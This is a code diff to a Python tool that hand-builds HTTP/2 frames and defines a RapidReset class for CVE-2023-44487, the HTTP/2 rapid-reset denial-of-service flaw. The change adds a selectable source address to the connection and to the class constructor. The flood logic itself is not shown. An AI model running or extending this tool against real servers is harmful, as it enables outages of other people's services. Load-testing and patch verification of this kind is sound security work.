@@ -37,8 +37,8 @@ def headers(path: str, authority: str, token: str, scheme: str) -> bytes:
             + literal(23, f"Bearer {token}") + b"\0" + _text("te") + _text("trailers"))
 
 
-def connect(host: str, port: int, ca: str = "", cert: str = "", key: str = "", timeout: float = 5.0) -> socket.socket:
-    raw = socket.create_connection((host, port), timeout)
+def connect(host: str, port: int, ca: str = "", cert: str = "", key: str = "", source: str = "", timeout: float = 5.0) -> socket.socket:
+    raw = socket.create_connection((host, port), timeout, (source, 0) if source else None)
     if ca:
         context = ssl.create_default_context(cafile=ca)
         context.set_alpn_protocols(["h2"])
@@ -56,8 +56,8 @@ def connect(host: str, port: int, ca: str = "", cert: str = "", key: str = "", t
 class RapidReset:
     """CVE-2023-44487: requests that are cancelled in the same breath, so that the bound on open streams is never met."""
 
-    def __init__(self, host: str, port: int, path: str, token: str, ca: str = "", cert: str = "", key: str = "") -> None:
-        self.to = (host, port, ca, cert, key)
+    def __init__(self, host: str, port: int, path: str, token: str, ca: str = "", cert: str = "", key: str = "", source: str = "") -> None:
+        self.to = (host, port, ca, cert, key, source)
         self.block = headers(path, f"localhost:{port}", token, "https" if ca else "http")
         self.sent = self.connections = self.refused = 0
 
